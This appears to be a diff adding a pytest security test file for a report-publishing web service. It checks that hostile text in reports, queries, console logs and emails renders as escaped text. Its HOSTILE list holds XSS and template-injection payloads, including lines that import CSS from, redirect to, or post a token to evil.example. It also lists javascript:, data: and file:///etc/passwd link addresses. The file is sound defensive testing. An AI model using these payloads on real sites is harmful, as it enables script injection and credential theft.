@@ -1,0 +1,216 @@
+"""Whatever a page, a site or a letter says is shown as text, wherever it is shown (X1 to X6)."""
+
+from collections.abc import Callable
+from dataclasses import replace
+from decimal import Decimal
+from email.message import EmailMessage
+
+import pytest
+
+from disclosures import (
+    Attachment,
+    Block,
+    BlockKind,
+    Change,
+    Fault,
+    FieldChange,
+    FieldLocation,
+    FieldOrigin,
+    Figure,
+    FigureChange,
+    Finding,
+    Hunk,
+    Op,
+    ReportObserved,
+    RunOutcome,
+    Segment,
+    Severity,
+    Source,
+    Table,
+)
+from disclosures.ports import Ledger
+from service.web.rendering import renderer
+from store.catalogue import SqlSources
+from store.queries import SqlQueries
+from tests.service.web.conftest import Browser, Page, Visit
+
+MakeSight = Callable[..., ReportObserved]
+
+HOSTILE = [
+    "<script>window.__xss=1</script>",
+    '<img src=x onerror="window.__xss=1">',
+    '"><svg/onload=window.__xss=1>',
+    "' onmouseover='window.__xss=1",
+    "</title><script>window.__xss=1</script>",
+    "</textarea></select></option><script>window.__xss=1</script>",
+    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
+    "<a href=javascript:window.__xss=1>x</a>",
+    "<style>@import url(http://evil.example/x.css);</style>",
+    "<base href=http://evil.example/>",
+    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
+    "<form action=http://evil.example><input name=token>",
+    "{{7*7}}{% raw %}{{ config }}",
+    "${7*7} #{7*7} %s {0.__class__} %(n)s",
+    "]]><script>window.__xss=1</script><![CDATA[",
+    "<!--><plaintext>",
+    "\u202egpj.exe\u2066 \u200b\ufeff年报",
+    "年\x1b[31m报\x07\x7f",
+    "a" * 20_000,
+    "<ins>假</ins><del>的</del>",
+]
+
+#: Tags and attributes that our own templates use. Anything else came out of a page.
+TAGS = frozenset(
+    {"html", "head", "meta", "title", "link", "body", "a", "header", "main", "footer", "nav"}
+    | {"div", "span", "br", "strong", "small", "p", "h1", "h2", "h3", "h4", "h5", "h6", "pre"}
+    | {"section", "aside", "article", "details", "summary", "iframe", "time", "code", "ins", "del"}
+    | {"dl", "dt", "dd", "ol", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"}
+    | {"form", "label", "input", "select", "option", "button", "fieldset", "legend"}
+)
+
+
+def _is_ours(page: Page) -> None:
+    """Assert that a page has no tag, handler, style or link that our templates do not make."""
+    for tag, attrs in page.tags:
+        assert tag in TAGS, tag
+        assert not [name for name in attrs if name.startswith("on") or name == "style"]
+        for name in ("href", "src", "action"):
+            target = attrs.get(name) or "/"
+            assert target.startswith(("/", "?", "#", "http://")), target
+        assert tag != "meta" or "http-equiv" not in attrs
+
+
+def _sight(make_sight: MakeSight, text: str) -> ReportObserved:
+    """A report that is hostile wherever a report can be."""
+    figure = Figure(key=text[:50], value=Decimal(1), unit=text[:50], raw=text, sentence=text)
+    return make_sight(
+        title=text,
+        publisher=text,
+        index_no=text,
+        doc_no=text,
+        source=text,
+        blocks=(
+            Block(kind=BlockKind.HEADING, text=text, level=1),
+            Block(kind=BlockKind.PARAGRAPH, text=text),
+            Block(kind=BlockKind.TABLE, text=text, table=0),
+            Block(kind=BlockKind.IMAGE, text=text),
+        ),
+        tables=(Table(rows=((text, text),)),),
+        figures=(figure,),
+        attachments=(Attachment(text=text, url="javascript:window.__xss=1"),),
+        findings=(Finding(code="x", severity=Severity.WARNING, message=text),),
+        provenance={"index_no": FieldOrigin(where=FieldLocation.INDEX, raw=text, others=(text,))},
+    )
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_x1_a_hostile_report_is_text_on_every_page(
+    ada: Browser,
+    visit: Visit,
+    make_sight: MakeSight,
+    sources: SqlSources,
+    source: Source,
+    ledger: Ledger,
+    archive: SqlQueries,
+    text: str,
+) -> None:
+    sources.put(replace(source, agency=text, province=text[:40]))
+    elsewhere = replace(_sight(make_sight, text), url="http://www.linhe.example/swj/other.html")
+    ledger.quarantine(ledger.begin(source), [elsewhere], text)
+    visit(make_sight())
+    [event] = visit(_sight(make_sight, text))
+    assert event.report
+    report = f"/reports/{event.report.id}"
+    paths = ["/", f"/events/{event.id}", report, f"{report}/revisions/2", "/sources",
+             "/sources/linhe-swj", "/subscribe", "/feeds", "/console", "/console/held"]  # fmt: skip
+
+    for path in paths:
+        answer = ada.get(path)
+
+        page = Page(answer.text)
+        assert answer.status_code == 200, path
+        _is_ours(page)
+        assert "7*7" in page.words or "7*7" not in text or path in {"/feeds", "/subscribe"}, path
+        assert not set(answer.text) & set("\u202e\u2066\x1b\x07\x7f"), path
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_x2_a_hostile_step_is_marked_up_after_it_is_escaped(text: str) -> None:
+    """The diff is of text: cutting inside a tag leaves no half tag behind."""
+    half = len(text) // 2
+    change = Change(
+        fields=(FieldChange(name=text[:40], before=text, after=text[::-1]),),
+        figures=(FigureChange(key=text[:40], before=None, after=None),),
+        passages=(
+            Hunk(
+                section=text,
+                pieces=(
+                    Segment(op=Op.KEPT, text=text[:half]),
+                    Segment(op=Op.REMOVED, text=text[half:]),
+                    Segment(op=Op.ADDED, text=text),
+                ),
+            ),
+        ),
+    )
+    template = '{% import "parts.html" as parts with context %}{{ parts.change(change) }}'
+
+    for environment in renderer()._environments.values():
+        page = Page(environment.from_string(template).render(change=change))
+
+        _is_ours(page)
+        assert {"ins", "del"} <= {tag for tag, _attrs in page.tags}
+
+
+@pytest.mark.parametrize(
+    "address", ["javascript:window.__xss=1", "JaVaScRiPt:x", "data:text/html,x", "vbscript:x",
+                "java\nscript:x", " javascript:x", "file:///etc/passwd", "//evil.example", "http://[::1"],
+)  # fmt: skip
+def test_x3_only_addresses_of_the_web_become_links(
+    browser: Browser, visit: Visit, make_sight: MakeSight, address: str
+) -> None:
+    files = (Attachment(text="附件", url=address),)
+    [event] = visit(replace(make_sight(attachments=files), url=address))
+    assert event.report
+
+    page = Page(browser.get(f"/reports/{event.report.id}").text)
+
+    _is_ours(page)
+    assert "附件" in page.words
+
+
+def test_x4_what_a_site_answered_is_text_in_the_console(ada: Browser, visit: Visit) -> None:
+    visit(outcome=RunOutcome.FAILED, why=HOSTILE[0], fault=Fault.BUSY)
+
+    for path in ("/console", "/console/runs"):
+        page = Page(ada.get(path).text)
+
+        _is_ours(page)
+        assert HOSTILE[0] in page.words
+
+
+@pytest.mark.parametrize("text", HOSTILE[:10], ids=range(10))
+def test_a_hostile_query_is_escaped(browser: Browser, text: str) -> None:
+    for path in ("/", "/feeds", "/sources", "/subscribe", "/console/login"):
+        for name in ("source", "lang", "next", text):
+            _is_ours(Page(browser.ask("GET", path, params={name: text}).text))
+
+
+def test_a_hostile_letter_stays_in_its_cage(browser: Browser, letters: list[EmailMessage]) -> None:
+    letter = EmailMessage()
+    letter["Subject"] = "<script>window.__xss=1</script>"
+    letter["To"] = "ada@reader.example"
+    letter.set_content("<b>http://desk.example/confirm/x http://evil.example/y javascript:x")
+    letter.add_alternative("<html><head></head><script>parent.__xss=1</script>", subtype="html")
+    letters.append(letter)
+
+    shown, framed = Page(browser.get("/demo/mailbox/1").text), browser.get("/demo/mailbox/1/html")
+
+    _is_ours(shown)
+    _is_ours(Page(browser.get("/demo/mailbox").text))
+    assert "http://desk.example/confirm/x" in shown.all("a", "href")
+    assert "http://evil.example/y" not in shown.all("a", "href")
+    assert [attrs["sandbox"] for tag, attrs in shown.tags if tag == "iframe"] == [
+        "allow-top-navigation-by-user-activation"
+    ]
+    assert "sandbox" in framed.headers["content-security-policy"]
+    assert "allow-scripts" not in framed.headers["content-security-policy"]
